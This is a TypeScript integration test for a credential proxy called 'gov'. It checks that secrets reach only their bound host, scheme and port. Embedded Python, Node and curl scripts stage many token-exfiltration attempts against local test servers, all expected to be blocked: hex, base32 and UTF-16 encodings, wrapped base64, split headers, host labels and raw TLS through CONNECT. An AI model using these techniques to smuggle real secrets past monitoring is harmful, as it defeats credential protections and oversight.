/**
 * Issue 11 items 2 and 7, issue 13 item 7, through the real `gov run` with real clients:
 * a credential reaches only its bound scheme, host and port; a placeholder reaches no
 * server in any common encoding, split or method; a placeholder in a body to its own host
 * gets the right message (a JSON-RPC error for MCP) or, with `inject: body`, the secret.
 * Every claim is checked against what the servers logged and what gov wrote.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readFileSync, writeFileSync, existsSync } from 'node:fs';
import { join } from 'node:path';
import { makeTestPki, type TestPki } from '../helpers/test-ca.js';
import { startLoggingServer, type LoggingServer } from '../helpers/logging-server.js';
import { runGov, tempHome, type GovResult } from '../helpers/gov-process.js';
import { sealWithFastKdf } from '../helpers/passphrase-home.js';
import { filesUnder } from '../helpers/home-files.js';

const SECRET = 'sk-bypass-real-credential-Qw7Er9Ty';
const HTTP_SECRET = 'hs-plain-opt-in-credential-Zx4Cv6';

type Rec = { kind: string; method?: string; reason?: string; detail?: Record<string, unknown> };
function auditRecords(home: string): Rec[] {
  return filesUnder(join(home, 'audit'))
    .filter((f) => f.endsWith('.jsonl'))
    .flatMap((f) => readFileSync(f, 'utf8').trim().split('\n'))
    .map((l) => JSON.parse(l) as Rec);
}

type Line = { name: string; status: number; body: string };
function lines(r: GovResult): Map<string, Line> {
  const out = new Map<string, Line>();
  for (const l of r.stdout.trim().split('\n')) {
    if (!l.startsWith('{')) continue;
    const x = JSON.parse(l) as Line;
    out.set(x.name, x);
  }
  return out;
}

// The agent: its own listeners (plain and TLS) on the bound host, and every exfiltration
// attempt we know of, through the proxy variables gov set.
const PY_AGENT = String.raw`
import base64, json, os, ssl, sys, threading, textwrap, urllib.request, urllib.error, http.server
ph, hp = os.environ["API_TOKEN"], os.environ["HTTP_TOKEN"]
P = json.loads(sys.argv[1])
class H(http.server.BaseHTTPRequestHandler):
    def any(self):
        body = self.rfile.read(int(self.headers.get("content-length") or 0)).decode("latin1")
        with open(os.environ["AGENT_LOG"], "a") as f:
            f.write(json.dumps({"path": self.path, "headers": str(self.headers), "body": body}) + "\n")
        self.send_response(200); self.send_header("content-length", "2"); self.end_headers(); self.wfile.write(b"ok")
    do_GET = do_POST = do_PUT = do_PATCH = do_DELETE = any
    def log_message(self, *a): pass
def serve(tls):
    s = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
    if tls:
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); ctx.load_cert_chain(os.environ["CERT"], os.environ["KEY"])
        s.socket = ctx.wrap_socket(s.socket, server_side=True)
    threading.Thread(target=s.serve_forever, daemon=True).start()
    return s.server_address[1]
hport, sport = serve(False), serve(True)
print(json.dumps({"name": "placeholder", "status": 0, "body": ph}), flush=True)
def req(name, url, method="GET", data=None, headers={}):
    r = urllib.request.Request(url, data=data, method=method, headers=headers)
    try:
        with urllib.request.urlopen(r, timeout=20) as resp: status, text = resp.status, resp.read().decode()
    except urllib.error.HTTPError as e: status, text = e.code, e.read().decode()
    except Exception as e: status, text = 0, repr(e)
    print(json.dumps({"name": name, "status": status, "body": text}), flush=True)
own = "https://127.0.0.1:%d/x" % sport
req("agent-http", "http://127.0.0.1:%d/plain" % hport)
req("agent-https", own)
req("bound", P["bound"] + "/rest")
req("https-binding-over-http", P["plain"] + "/absolute")
req("opt-in", P["optin"] + "/in", "POST", json.dumps({"key": hp}).encode(), {"content-type": "application/json"})
wrapped = "\n".join(textwrap.wrap(base64.b64encode(("xyz1234" + ph).encode()).decode(), 10))
attempts = {
    "hex": ("POST", ph.encode().hex().encode()),
    "hex-upper": ("POST", ph.encode().hex().upper().encode()),
    "upper": ("PUT", ph.upper().encode()),
    "base32": ("PATCH", base64.b32encode(("q" + ph).encode())),
    "utf16le": ("POST", ph.encode("utf-16-le")),
    "utf16be": ("DELETE", ph.encode("utf-16-be")),
    "base64-wrapped": ("PUT", wrapped.encode()),
    "multipart-quoted-printable": ("POST", ("--b\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n" + ph[:25] + "=\r\n" + ph[25:] + "\r\n--b--\r\n").encode()),
    "base64url": ("POST", base64.urlsafe_b64encode(("ab" + ph).encode()).rstrip(b"=")),
    "delete-raw": ("DELETE", ph.encode()),
    "patch-raw": ("PATCH", json.dumps({"t": ph}).encode()),
}
for name, (method, data) in attempts.items():
    req(name, own, method, data, {"content-type": "application/octet-stream"})
req("query", own + "?t=" + ph)
req("host-label", "https://%s.localhost:%d/x" % (ph[-24:], sport))
req("query-base64", own + "?t=" + base64.b64encode(ph.encode()).decode())
req("split-headers", own, headers={"X-A": ph[:20], "X-B": ph[20:]})
call = lambda args: json.dumps({"jsonrpc": "2.0", "id": 7, "method": "tools/call", "params": {"name": "echo", "arguments": args}}).encode()
mcp = {"content-type": "application/json", "accept": "application/json, text/event-stream"}
req("mcp-own-host", P["bound"] + "/mcp", "POST", call({"token": ph}), mcp)
req("mcp-other-host", own, "POST", call({"token": ph}), mcp)
req("mcp-inject-body", P["optin"] + "/mcp", "POST", call({"token": hp}), mcp)
`;

// Raw TLS through CONNECT (repeated headers), plain HTTP inside CONNECT, and undici fetch.
const NODE_AGENT = String.raw`
import net from 'node:net';
import tls from 'node:tls';
const P = JSON.parse(process.argv[2]);
const ph = process.env.API_TOKEN;
const proxy = new URL(process.env.HTTPS_PROXY);
const auth = 'Basic ' + Buffer.from(decodeURIComponent(proxy.username) + ':' + decodeURIComponent(proxy.password)).toString('base64');
function tunnel(port) {
  return new Promise((resolve, reject) => {
    const s = net.connect(Number(proxy.port), proxy.hostname, () =>
      s.write('CONNECT 127.0.0.1:' + port + ' HTTP/1.1\r\nHost: 127.0.0.1:' + port + '\r\nProxy-Authorization: ' + auth + '\r\n\r\n'));
    s.once('data', (d) => (String(d).startsWith('HTTP/1.1 200') ? resolve(s) : reject(new Error(String(d)))));
    s.on('error', reject);
  });
}
function exchange(sock, text) {
  return new Promise((resolve) => {
    let got = '';
    sock.on('data', (d) => (got += d));
    sock.on('close', () => resolve(got.split('\r\n')[0]));
    sock.on('error', () => resolve(got.split('\r\n')[0] || 'error'));
    sock.write(text);
  });
}
const out = (name, status) => console.log(JSON.stringify({ name, status: Number(String(status).split(' ')[1] ?? status), body: String(status) }));
{
  const raw = await tunnel(P.otherPort);
  const t = tls.connect({ socket: raw, host: '127.0.0.1' });
  await new Promise((r) => t.once('secureConnect', r));
  out('raw-tls-repeated-header', await exchange(t,
    'GET /raw HTTP/1.1\r\nHost: 127.0.0.1:' + P.otherPort + '\r\nX-T: ' + ph.slice(0, 25) + '\r\nX-T: ' + ph.slice(25) + '\r\nConnection: close\r\n\r\n'));
}
{
  const raw = await tunnel(P.plainPort);
  out('plain-inside-connect', await exchange(raw, 'GET /inside HTTP/1.1\r\nHost: 127.0.0.1:' + P.plainPort + '\r\nConnection: close\r\n\r\n'));
}
const f = await fetch(P.other + '/undici', { method: 'PATCH', body: Buffer.from(ph).toString('base64') });
out('undici-patch-base64', 'HTTP/1.1 ' + f.status + ' ' + (await f.text()));
const g = await fetch(P.bound + '/undici-bound');
out('undici-bound', 'HTTP/1.1 ' + g.status);
`;

describe('credentials go only to their bound scheme, host and port; placeholders go nowhere', () => {
  let pki: TestPki;
  let bound: LoggingServer;
  let other: LoggingServer;
  let plain: LoggingServer;
  let optIn: LoggingServer;
  let home: string;
  let agentLog: string;
  let py: GovResult;
  let node: GovResult;
  let curl: GovResult;
  let results: Map<string, Line>;

  beforeAll(async () => {
    pki = makeTestPki();
    bound = await startLoggingServer(pki);
    other = await startLoggingServer(pki);
    plain = await startLoggingServer(null);
    optIn = await startLoggingServer(null);
    home = tempHome();
    await sealWithFastKdf(home, 'correct horse battery');
    agentLog = join(home, 'agent-listener.log');
    writeFileSync(join(pki.dir, 'key.pem'), pki.keyPem);
    writeFileSync(join(pki.dir, 'cert.pem'), pki.certPem);
    const policy = join(home, 'gov.yaml');
    writeFileSync(
      policy,
      `version: 1
default: allow
credentials:
  - secret: api-token
    hosts: [127.0.0.1, "127.0.0.1:${bound.port}", "127.0.0.1:${plain.port}"]
    env: API_TOKEN
  - secret: http-token
    scheme: http
    hosts: ["127.0.0.1:${optIn.port}"]
    header: X-Key
    format: "{secret}"
    inject: [header, body]
    env: HTTP_TOKEN
`,
    );
    const env = {
      GOV_HOME: home,
      GOV_VAULT_BACKEND: 'passphrase',
      GOV_VAULT_PASSPHRASE: 'correct horse battery',
    };
    for (const [name, value] of [
      ['api-token', SECRET],
      ['http-token', HTTP_SECRET],
    ] as const) {
      const set = await runGov(['vault', 'set', name], { env, input: value + '\n' });
      expect(set.code, set.stderr).toBe(0);
    }
    // Create the CA once: the three runs below start together and would each mint their own.
    expect((await runGov(['ca', 'path'], { env })).code).toBe(0);
    const P = JSON.stringify({
      bound: bound.url,
      other: other.url,
      otherPort: other.port,
      plain: plain.url,
      plainPort: plain.port,
      optin: optIn.url,
    });
    const run = (cmd: string[], extra: Record<string, string> = {}) =>
      runGov(['run', '--no-tui', '--policy', policy, '--upstream-ca', pki.caPath, '--', ...cmd], {
        env: { ...env, ...extra },
        timeoutMs: 90_000,
      });
    const nodeAgent = join(home, 'agent.mjs');
    writeFileSync(nodeAgent, NODE_AGENT);
    [py, node, curl] = await Promise.all([
      run(['python3', '-c', PY_AGENT, P], {
        AGENT_LOG: agentLog,
        CERT: join(pki.dir, 'cert.pem'),
        KEY: join(pki.dir, 'key.pem'),
      }),
      run([process.execPath, nodeAgent, P]),
      run([
        'sh',
        '-c',
        `curl -s -o /dev/null -w 'curl-bound %{http_code}\\n' ${bound.url}/curl;
         curl -s -o /dev/null -w 'curl-put-hex %{http_code}\\n' -X PUT --data-binary "$(printf %s "$API_TOKEN" | od -An -tx1 | tr -d ' \\n')" ${other.url}/curl;
         curl -s -o /dev/null -w 'curl-http-to-https-binding %{http_code}\\n' ${plain.url}/curl-plain`,
      ]),
    ]);
    results = new Map([...lines(py), ...lines(node)]);
  }, 120_000);

  afterAll(async () => {
    await Promise.all([bound, other, plain, optIn].map((s) => s?.close()));
  });

  it('injects over verified TLS on the bound port (urllib, undici, curl) and audits each injection', () => {
    expect(results.get('bound')?.status, py.stderr).toBe(200);
    expect(results.get('undici-bound')?.status, node.stderr).toBe(200);
    expect(curl.stdout).toContain('curl-bound 200');
    const auths = bound.log.map(
      (r) => r.rawHeaders[r.rawHeaders.findIndex((h) => /^authorization$/i.test(h)) + 1],
    );
    expect(auths.filter((a) => a === `Bearer ${SECRET}`)).toHaveLength(3);
    const injections = auditRecords(home).filter((r) => r.kind === 'call' && r.detail?.['injected']);
    const rest = injections.filter((r) => r.method === 'GET');
    expect(rest.length).toBeGreaterThanOrEqual(3);
    expect(rest[0]!.detail!['injected']).toEqual([
      { secret: 'api-token', host: `127.0.0.1:${bound.port}`, scheme: 'https', into: 'header:authorization' },
    ]);
  });

  it("never sends the secret to the agent's own listeners or to a bound port over plain HTTP", () => {
    expect(results.get('agent-http')?.status).toBe(200);
    expect(results.get('agent-https')?.status).toBe(200);
    expect(results.get('https-binding-over-http')?.status).toBe(200);
    expect(results.get('plain-inside-connect')?.status).toBe(200);
    expect(existsSync(agentLog)).toBe(true);
    const agentSaw = readFileSync(agentLog, 'utf8');
    expect(agentSaw).toContain('/plain');
    expect(agentSaw).not.toContain(SECRET);
    expect(curl.stdout).toContain('curl-http-to-https-binding 200');
    expect(plain.log.map((r) => r.url)).toEqual(
      expect.arrayContaining(['/absolute', '/inside', '/curl-plain']),
    );
    expect(plain.text()).not.toContain(SECRET);
    expect(other.text()).not.toContain(SECRET);
  });

  it('scheme: http with an explicit port works (header and inject: body) and gov warns once at start-up', () => {
    expect(results.get('opt-in')?.status).toBe(200);
    const got = optIn.log.find((r) => r.url === '/in')!;
    expect(got.rawHeaders[got.rawHeaders.findIndex((h) => /^x-key$/i.test(h)) + 1]).toBe(HTTP_SECRET);
    expect(JSON.parse(got.body)).toEqual({ key: HTTP_SECRET });
    for (const r of [py, node, curl]) {
      expect(r.stderr.split('\n').filter((l) => l.includes('plain HTTP'))).toHaveLength(1);
    }
    expect(py.stderr).toMatch(/gov: warning: credentials are sent over plain HTTP .*'http-token'/);
  });

  const blocked = [
    'hex',
    'hex-upper',
    'upper',
    'base32',
    'utf16le',
    'utf16be',
    'base64-wrapped',
    'multipart-quoted-printable',
    'base64url',
    'delete-raw',
    'patch-raw',
    'query',
    'query-base64',
    'host-label',
    'split-headers',
    'raw-tls-repeated-header',
    'undici-patch-base64',
  ];
  it.each(blocked)('blocks the placeholder sent as %s with a 403 and an alert', (name) => {
    const r = results.get(name);
    expect(r?.status, `${name}: ${JSON.stringify(r)}\n${py.stderr}${node.stderr}`).toBe(403);
  });

  it('no server received a placeholder, and each block left an alert', () => {
    expect(curl.stdout).toContain('curl-put-hex 403');
    const token = results.get('placeholder')!.body.slice(-24);
    expect(token).toMatch(/^[0-9a-f]{24}$/);
    const agentSaw = readFileSync(agentLog, 'utf8');
    // Only the two requests without a placeholder reached the agent's listener.
    expect(agentSaw.trim().split('\n')).toHaveLength(2);
    expect(other.log.map((r) => r.url)).toEqual([]);
    for (const text of [agentSaw, bound.text(), plain.text(), optIn.text()])
      expect(text).not.toContain(token);
    const alerts = auditRecords(home).filter((r) => r.kind === 'alert');
    expect(alerts.length).toBeGreaterThanOrEqual(blocked.length + 3);
    expect(alerts.every((a) => !JSON.stringify(a).includes(token))).toBe(true);
  });

  it('a placeholder in an MCP body to its own host gets a JSON-RPC error that says how to send it', () => {
    const own = results.get('mcp-own-host')!;
    const body = JSON.parse(own.body) as { id: number; error: { code: number; message: string } };
    expect(body.id).toBe(7);
    expect(body.error.code).toBe(-32003);
    expect(body.error.message).toContain('only into the Authorization header');
    expect(body.error.message).toContain("add 'inject: body' to the binding");
    expect(body.error.message).not.toContain('not bound');
    const away = JSON.parse(results.get('mcp-other-host')!.body) as { error: { message: string } };
    expect(away.error.message).toContain('which it is not bound to');
    expect(bound.log.map((r) => r.url)).not.toContain('/mcp');
  });

  it('inject: body puts the secret into a forwarded MCP call and the call record says so', () => {
    expect(results.get('mcp-inject-body')?.status).toBe(200);
    const got = optIn.log.find((r) => r.url === '/mcp')!;
    const sent = JSON.parse(got.body) as { params: { arguments: { token: string } } };
    expect(sent.params.arguments.token).toBe(HTTP_SECRET);
    const call = auditRecords(home).find(
      (r) => r.kind === 'call' && r.method === 'tools/call' && r.detail?.['injected'] !== undefined,
    )!;
    expect(call.detail!['injected']).toEqual([
      { secret: 'http-token', host: `127.0.0.1:${optIn.port}`, scheme: 'http', into: 'header:x-key' },
      { secret: 'http-token', host: `127.0.0.1:${optIn.port}`, scheme: 'http', into: 'body' },
    ]);
  });

  it('leaves the secret nowhere gov wrote: GOV_HOME, stdout, stderr', () => {
    for (const r of [py, node, curl]) {
      expect(r.stdout + r.stderr).not.toContain(SECRET);
      expect(r.stdout + r.stderr).not.toContain(HTTP_SECRET);
    }
    for (const f of filesUnder(home)) {
      if (f.endsWith('.sock')) continue;
      const content = readFileSync(f);
      for (const s of [SECRET, HTTP_SECRET]) {
        expect(content.includes(Buffer.from(s)), f).toBe(false);
        expect(content.includes(Buffer.from(Buffer.from(s).toString('base64'))), f).toBe(false);
      }
    }
  });
});
